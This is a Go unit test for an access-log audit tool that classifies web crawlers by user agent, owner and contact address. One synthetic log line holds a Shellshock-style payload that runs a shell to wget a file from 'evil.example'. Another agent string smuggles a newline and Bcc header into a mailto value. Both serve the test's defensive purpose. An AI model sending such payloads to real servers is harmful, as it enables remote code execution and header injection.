package audit_test

import (
	"testing"

	"github.com/cybermapper/cybermapper/robots/accesslog/audit"
	"github.com/cybermapper/cybermapper/robots/roster"
)

// TestAbout: what the roster says is with each robot, and says what is known and what acts for a person.
func TestAbout(t *testing.T) {
	notes, _ := roster.Parse([]byte("robot-id: helper\nrobot-class: user-triggered\nrobot-owner-name: H\n\nrobot-id: noted\nrobot-owner-name:\nrobot-notes: n\n"))
	var w logWriter
	w.at(5, "192.0.2.3", "Exploit () { :;};/bin/sh -c 'wget http://evil.example/x.tar'", "/cgi-bin/a", 404, 1)
	for _, agent := range []string{"Helper/1", "Noted/1 (+mailto:a@b.example\\x0aBcc:z)", "Other/1 (see http://o.example/bot, please)", "Googlebot/2.1"} {
		for i := range 3 {
			w.at(float64(i), "192.0.2.1", agent, "/", 200, 1)
		}
	}
	w.at(9, "192.0.2.2", "DropIn/1", "/", 200, 1)
	r := run(t, w.b.String(), audit.Options{Roster: roster.NewList(roster.Bundled(), notes)})
	if len(r.UserTriggered) != 1 || r.UserTriggered[0].About.Owner != "H" || !r.UserTriggered[0].Known {
		t.Errorf("fetchers are %+v", r.UserTriggered)
	}
	noted, other, google := find(t, r.Robots, "Noted"), find(t, r.Robots, "Other"), find(t, r.Robots, "Googlebot")
	if noted.Known || noted.About.Notes != "n" || noted.Reach() != "a@b.example" {
		t.Errorf("what is known of one noted: %+v", noted.About)
	}
	if other.Known || other.About != nil || other.Reach() != "http://o.example/bot" {
		t.Errorf("what is known of another: %+v, %q", other.About, other.Claimed)
	}
	if !google.Known || google.About.Owner != "Google" || google.Reach() != "http://www.google.com/bot.html" {
		t.Errorf("what is known of Googlebot: %+v", google.About)
	}
	if got := find(t, r.Robots, "Exploit").Reach(); got != "" {
		t.Errorf("who sends code is reached at %q", got)
	}
	google.Claimed = "http://claimed.example/"
	if got := google.Reach(); got != "http://claimed.example/" {
		t.Errorf("who runs somebody's program is reached at %q", got)
	}
	if google.Identity = audit.Disproved; google.Reach() != "" {
		t.Error("who borrows a name can be reached at its owner's")
	}
	var tokens []string
	for _, s := range r.Sightings() {
		tokens = append(tokens, s.Token)
	}
	if got, want := len(tokens), 4; got != want || tokens[0] != "Googlebot" || tokens[1] != "Helper" {
		t.Errorf("sightings are %v", tokens)
	}
}
